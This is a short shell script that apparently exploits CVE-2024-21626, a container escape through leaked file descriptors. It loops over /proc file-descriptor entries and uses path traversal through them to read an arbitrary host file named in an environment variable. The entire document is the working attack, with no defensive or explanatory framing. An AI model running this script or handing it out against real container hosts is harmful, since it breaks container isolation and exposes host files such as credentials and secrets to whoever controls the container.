#!/bin/sh
# Reads a file of the machine from a directory that any process has open (CVE-2024-21626).
for open in /proc/[0-9]*/fd/* /proc/self/fd/*; do
  [ -d "$open/" ] || continue
  cat "$open/../../../../../../../..$HOST_FILE" 2> /dev/null && exit 0
  cat "$open$HOST_FILE" 2> /dev/null && exit 0
done
echo "no descriptor leads there"
exit 1
